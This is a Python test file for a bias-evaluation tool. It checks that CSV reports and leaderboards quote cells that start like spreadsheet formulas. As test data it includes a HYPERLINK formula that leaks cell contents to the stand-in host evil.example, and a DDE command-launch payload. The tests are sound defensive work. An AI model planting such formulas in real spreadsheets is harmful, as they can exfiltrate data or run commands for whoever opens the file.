"""Every CSV coldbias writes (report and leaderboard) is safe to open in a spreadsheet: a text
cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a leading single quote (OWASP's
CSV-injection advice), while numbers, negative ones included, stay numbers
(``app/commands.write_csv``, the one place CSV is written)."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from coldbias_tasks.app import cli
from coldbias_tasks.render.csv_files import csv_text, write_csv
from tests.synthetic import SyntheticRecommender, run_synthetic

TASK = "coldbias_movie_gender"
SMALL = {"coldbias_n_items": 20, "coldbias_k": 3, "coldbias_repeats": 2}
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.012", "-0.012"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-inf", "-inf"),
        ("org/model", "org/model"),
        ("", ""),
    ],
)
def test_formula_cells_are_quoted_and_numbers_kept(text: str, safe: str) -> None:
    assert csv_text(text) == safe


def test_write_csv_quotes_text_cells_and_headers_not_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"model": [EVIL, "@x"], "value": [-0.012, 0.5], "mixed": ["-", -0.25], EVIL: [1, 2]}
    )
    write_csv(frame, tmp_path / "t.csv")
    rows = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
    assert rows[0][3] == "'" + EVIL
    assert rows[1][:3] == ["'" + EVIL, "-0.012", "'-"]
    assert rows[2][:3] == ["'@x", "0.5", "-0.25"]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["value"].tolist() == [-0.012, 0.5]


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An lm-eval output folder (synthetic answers) whose model is named like a formula."""
    out = tmp_path_factory.mktemp("run") / "out"
    run_synthetic(SyntheticRecommender(seed=2), [TASK], SMALL, output_path=out)
    (results,) = out.rglob("results_*.json")
    data = json.loads(results.read_text())
    data["model_name"] = EVIL
    data["config"]["model_args"] = f"pretrained={EVIL}"
    results.write_text(json.dumps(data))
    return out


def _live_formulas(folder: Path) -> list[tuple[str, str]]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    try:
                        float(cell)
                    except ValueError:
                        found.append((path.name, cell))
    return found


def test_a_formula_model_name_writes_no_live_formula(
    evil_run: Path, tmp_path: Path, capsys
) -> None:
    rep, lb = tmp_path / "rep", tmp_path / "lb"
    assert cli.main(["report", str(evil_run), "--output", str(rep)]) == 0
    assert cli.main(["leaderboard", str(evil_run), "--output", str(lb)]) == 0
    capsys.readouterr()
    csvs = [*rep.glob("*.csv"), *lb.glob("*.csv")]
    assert len(csvs) >= 8
    assert _live_formulas(rep) == [] and _live_formulas(lb) == []
    cells = [c for p in csvs for row in csv.reader(p.open(encoding="utf-8")) for c in row]
    assert sum(EVIL in c for c in cells) >= 2  # the name is there, neutralised
    assert all(c.startswith("'=") for c in cells if EVIL in c)
    shutil.rmtree(rep)
